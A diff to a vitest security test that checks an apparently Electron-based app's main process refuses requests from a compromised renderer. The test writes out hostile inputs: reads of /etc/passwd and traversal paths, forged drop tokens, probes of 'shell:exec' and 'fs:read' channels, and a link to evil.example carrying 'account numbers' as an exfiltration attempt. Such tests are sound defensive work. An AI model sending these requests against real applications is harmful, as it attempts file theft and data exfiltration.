@@ -1,4 +1,6 @@
 import crypto from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { compose } from '../../src/main/compose';
@@ -22,7 +24,8 @@ const VALID: Record<keyof typeof contract, unknown> = {
   'import:retry': { runId: 1 },
   'import:runs': {},
   'import:run': { runId: 1 },
-  'import:dropped': { paths: ['/tmp/x.txt'] },
+  'drop:register': { paths: ['/tmp/x.txt'] },
+  'import:dropped': { token: '6f1c2a52-4b7e-4c1e-9a59-3d0c8f1e2b7a', paths: ['/tmp/x.txt'] },
   'library:export': {},
   'watch:list': {},
   'watch:add': {},
@@ -127,7 +130,7 @@ describe('a compromised renderer gains nothing', () => {
 
   it('refuses malformed payloads on every channel with a typed error, keeping main alive and data unchanged', async () => {
     const { db } = tempDb();
-    const { platform } = testPlatform({ pickImportPaths: async () => [SAMPLE] });
+    const { platform, opened, asked, answers } = testPlatform({ pickImportPaths: async () => [SAMPLE] });
     const app = compose({ db, platform, samplesDir: path.dirname(SAMPLE), poolSize: 1 });
     const logged: unknown[] = [];
     const dispatch = createDispatcher(app.handlers, (e) => logged.push(e));
@@ -136,18 +139,31 @@ describe('a compromised renderer gains nothing', () => {
     const before = fingerprint(db);
 
     const codes: Record<string, number> = {};
-    let cases = 0;
+    // Counted by what main answered, never assumed; each distinct request once.
+    const seen = new Set<string>();
+    let accepted = 0;
+    const send = async (channel: string, payload: unknown) => {
+      const key = `${channel} ${payload === undefined ? 'undefined' : JSON.stringify(payload)}`;
+      const fresh = !seen.has(key);
+      seen.add(key);
+      const r = await dispatch(channel, payload);
+      if (fresh) {
+        if (r.ok) accepted++;
+        else codes[r.error.code] = (codes[r.error.code] ?? 0) + 1;
+      }
+      return r;
+    };
+    let malformed = 0;
     for (const [channel, valid] of Object.entries(VALID)) {
       const schema = contract[channel as keyof typeof contract].input;
       for (const payload of variants(valid)) {
         // Only requests the contract refuses are malformed; a variant that happens to be valid
         // (an optional key dropped) is a normal call and is not sent here.
         if (schema.safeParse(payload).success) continue;
-        cases++;
-        const r = await dispatch(channel, payload);
+        malformed++;
+        const r = await send(channel, payload);
         expect(r.ok, `${channel} accepted ${JSON.stringify(payload)?.slice(0, 120)}`).toBe(false);
         if (!r.ok) {
-          codes[r.error.code] = (codes[r.error.code] ?? 0) + 1;
           expect(r.error.code).toBe('VALIDATION');
           expect(r.error.message.length).toBeLessThan(2000);
         }
@@ -155,24 +171,68 @@ describe('a compromised renderer gains nothing', () => {
     }
     // Channels outside the contract do not exist.
     for (const channel of ['fs:read', 'shell:exec', '__proto__', 'constructor', 'briefings:list ', 'BRIEFINGS:LIST']) {
-      cases++;
-      const r = await dispatch(channel, {});
+      const r = await send(channel, {});
       expect(r.ok).toBe(false);
-      if (!r.ok) codes[r.error.code] = (codes[r.error.code] ?? 0) + 1;
     }
-    // Well-formed requests that name things main never handed out.
-    const forbidden: [string, unknown][] = [
-      ['watch:remove', { path: '/etc' }],
-      ['watch:remove', { path: '../../..' }],
-      ['import:dropped', { paths: ['relative/path.txt'] }],
-      ['import:dropped', { paths: ['../../etc/passwd'] }],
+    expect(accepted).toBe(0);
+    const malformedDistinct = seen.size;
+
+    // Well-formed requests that are hostile: files main never saw dropped, ids of things that do
+    // not exist, links the user declines. Each must be valid by the contract, so the schema is not
+    // what stops it: main's own checks are.
+    const secret = path.join(os.tmpdir(), `briefings-private-${process.pid}.txt`);
+    fs.writeFileSync(secret, 'account numbers');
+    const token = () => crypto.randomUUID();
+    const hostile: [string, unknown, string][] = [
+      ['watch:remove', { path: '/etc' }, 'FORBIDDEN'],
+      ['watch:remove', { path: '../../..' }, 'FORBIDDEN'],
+      ['import:dropped', { token: token(), paths: [secret] }, 'FORBIDDEN'],
+      ['import:dropped', { token: token(), paths: ['/etc/passwd'] }, 'FORBIDDEN'],
+      ['import:dropped', { token: token(), paths: ['relative/path.txt'] }, 'FORBIDDEN'],
+      ['drop:register', { paths: ['relative/path.txt'] }, 'FORBIDDEN'],
+      ['drop:register', { paths: [path.join(os.tmpdir(), 'no-such-file-' + token())] }, 'FORBIDDEN'],
+      ['briefings:get', { id: 987_654 }, 'NOT_FOUND'],
+      ['briefings:delete', { id: 987_654 }, 'NOT_FOUND'],
+      ['highlights:update', { id: 987_654, note: 'n' }, 'NOT_FOUND'],
+      ['highlights:remove', { id: 987_654 }, 'NOT_FOUND'],
+      ['highlights:add', { ...(VALID['highlights:add'] as object), briefingId: 987_654 }, 'NOT_FOUND'],
+      ['briefings:export-markdown', { id: 987_654 }, 'NOT_FOUND'],
+      ['import:run', { runId: 987_654 }, 'NOT_FOUND'],
+      ['import:retry', { runId: 987_654 }, 'NOT_FOUND'],
     ];
-    for (const [channel, payload] of forbidden) {
-      cases++;
-      const r = await dispatch(channel, payload);
-      expect(r).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
-      codes.FORBIDDEN = (codes.FORBIDDEN ?? 0) + 1;
+    for (const [channel, payload, code] of hostile) {
+      expect(contract[channel as keyof typeof contract].input.safeParse(payload).success, channel).toBe(true);
+      const r = await send(channel, payload);
+      expect(r, `${channel} ${JSON.stringify(payload)}`).toMatchObject({ ok: false, error: { code } });
     }
+    // A real drop's token works once, and only for the paths that drop carried.
+    const registered = await send('drop:register', { paths: [SAMPLE] });
+    expect(registered.ok).toBe(true);
+    const dropToken = registered.ok ? (registered.value as { token: string }).token : '';
+    expect(await send('import:dropped', { token: dropToken, paths: [SAMPLE, secret] })).toMatchObject({
+      ok: false,
+      error: { code: 'FORBIDDEN' },
+    });
+    expect(await send('import:dropped', { token: dropToken, paths: [SAMPLE] })).toMatchObject({
+      ok: false,
+      error: { code: 'FORBIDDEN' },
+    });
+    accepted--; // the registration itself is a normal answer, not a hole
+    // Huge pages are cut to the contract's cap, not served whole.
+    expect(contract['briefings:list'].input.safeParse({ limit: 1_000_000 }).success).toBe(false);
+    // A link the user declines in main's dialog does not open, whatever the renderer says.
+    answers.confirm = false;
+    expect(
+      await send('links:open', { url: `https://evil.example/?d=${encodeURIComponent('account numbers')}` }),
+    ).toEqual({
+      ok: true,
+      value: { opened: false },
+    });
+    accepted--;
+    expect(opened).toEqual([]);
+    expect(asked).toEqual([`https://evil.example/?d=${encodeURIComponent('account numbers')}`]);
+    fs.rmSync(secret);
+    expect(accepted).toBe(0);
 
     expect(fingerprint(db)).toBe(before);
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
@@ -189,9 +249,14 @@ describe('a compromised renderer gains nothing', () => {
           'channels (the registered set equals the contract: tests/main/electron-edge.test.ts)',
           Object.keys(contract).length,
         ],
-        ['malformed or forbidden requests sent', cases],
+        ['distinct malformed requests (refused by the contract)', malformedDistinct],
+        ['malformed requests sent in all', malformed + 6],
+        [
+          'distinct well-formed hostile requests (foreign paths, forged drop tokens, ids of nothing, declined links)',
+          seen.size - malformedDistinct,
+        ],
         ...Object.entries(codes).map(([code, n]): [string, number] => [`answered ${code}`, n]),
-        ['accepted', 0],
+        ['hostile requests that got what they asked for', accepted],
         ['data changed', fingerprint(db) === before ? 'no' : 'yes'],
         ['main process alive afterwards', alive.ok ? 'yes' : 'no'],
       ],
